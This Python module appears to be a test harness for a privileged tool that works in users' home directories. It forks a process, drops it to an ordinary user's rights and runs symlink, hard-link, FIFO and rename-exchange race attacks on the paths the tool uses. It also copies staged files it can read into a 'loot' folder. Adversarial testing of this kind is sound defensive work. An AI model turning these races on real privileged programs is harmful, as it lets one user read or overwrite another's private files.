"""What a user does to paths of his while somebody with root's rights works on them: a process of his own, in his home.

It swaps things all the time, and copies what it can read of others' doings into ./loot.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import random
import signal
from collections.abc import Callable, Iterator
from pathlib import Path

FOLDER, STATE = ".config/tool", ".local/state/reconcile"
EXCHANGE, HERE, PR_SET_PDEATHSIG = 2, -100, 1
libc = ctypes.CDLL(None)


def link(place: str, victim: str) -> Callable[[str], None]:
    """Leads out of the home, as seen from that place."""
    return lambda decoy: os.symlink("../" * (place.count("/") + 2) + victim, decoy)  # noqa: PTH211


def hard_link(decoy: str) -> None:
    """To somebody else's, where the kernel lets him."""
    try:
        os.link("../../srv/victim/readable", decoy)
    except OSError:
        os.link(".profile", decoy)


SWAPS: dict[str, tuple[str, Callable[[str], None]]] = {
    "file for link to private": (f"{FOLDER}/settings", link(f"{FOLDER}/settings", "srv/victim/private")),
    "file for link to readable": (f"{FOLDER}/settings", link(f"{FOLDER}/settings", "srv/victim/readable")),
    "file for hard link": (f"{FOLDER}/settings", hard_link),
    "file for fifo": (f"{FOLDER}/settings", os.mkfifo),
    "file for directory": (f"{FOLDER}/settings", os.mkdir),
    "folder for link": (FOLDER, link(FOLDER, "srv/victim")),
    "folder for fifo": (FOLDER, os.mkfifo),
    "folder above for link": (".config", link(".config", "srv/victim")),
    "root's folder for link": ("pub", link("pub", "srv/victim")),
    "state for link": (STATE, link(STATE, "srv/victim")),
    "state for fifo": (STATE, os.mkfifo),
    "state above for link": (".local", link(".local", "srv/victim")),
    "lock for fifo": (f"{STATE}/lock", os.mkfifo),
    "lock for link": (f"{STATE}/lock", link(f"{STATE}/lock", "srv/victim/private")),
    "ledger for fifo": (f"{STATE}/ledger", os.mkfifo),
    "ledger for link": (f"{STATE}/ledger", link(f"{STATE}/ledger", "srv/victim/private")),
    "effects for fifo": (f"{STATE}/effects.json", os.mkfifo),
    "copies for link": (f"{STATE}/before", link(f"{STATE}/before", "srv/victim")),
}
SQUATS = {"staged file": FOLDER, "stage": STATE}
ATTACKS = (*SWAPS, *SQUATS)


def swap(name: str) -> Iterator[None]:
    """Two things change places, at once; where there was nothing, one comes and goes."""
    place, make = SWAPS[name]
    make("decoy")
    while True:
        with contextlib.suppress(OSError):
            if libc.renameat2(HERE, place.encode(), HERE, b"decoy", EXCHANGE):
                os.rename("decoy", place) if not os.path.lexists(place) else os.rename(place, "decoy")  # noqa: PTH104
        yield


def squat(name: str, draw: random.Random) -> Iterator[None]:
    """Whatever appears there is read, and something else is put in its place."""
    for number in range(10**9):
        for folder, _, files in list(os.walk(SQUATS[name])):
            for file in files:
                place = f"{folder}/{file}"
                if not (".reconcile." in place or "/stage." in place):
                    continue
                with contextlib.suppress(OSError):
                    loot(place, number)
                    os.rename(place, f"loot/{number}.{file}")  # noqa: PTH104
                    draw.choice(
                        (link(place, "srv/victim/private"), link(place, "srv/victim/new"), os.mkfifo, os.mkdir)
                    )(place)
        yield


def loot(place: str, number: int) -> None:
    source = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
    copy = os.open(f"loot/{number}", os.O_WRONLY | os.O_CREAT, 0o600)
    os.write(copy, os.read(source, 65536))
    os.close(copy)
    os.close(source)


def besiege(home: Path, user: int, attack: str, seed: int, told: int) -> int:
    """Begins; the process. It tells `told` a line end when it is at it; after SIGTERM how many turns it had.

    Forked, not started anew: the user may not reach the Python that runs this.
    """
    process = os.fork()
    if process:
        return process
    try:
        os.chdir(home)
        os.setgroups([])
        os.setresgid(user, user, user)
        os.setresuid(user, user, user)
        libc.prctl(PR_SET_PDEATHSIG, signal.SIGKILL)  # a change of rights would have taken it back
        _attack(attack, random.Random(seed), told)
    except BaseException as error:
        os.write(told, f"\n{error!r}".encode())
    finally:
        os._exit(0)


def _attack(name: str, draw: random.Random, told: int) -> None:
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGTERM])
    os.write(told, b"\n")
    for turns, _ in enumerate(swap(name) if name in SWAPS else squat(name, draw)):
        if signal.sigtimedwait([signal.SIGTERM], draw.choice((0, 0.0002, 0.001, 0.004))):
            os.write(told, str(turns).encode())
            return
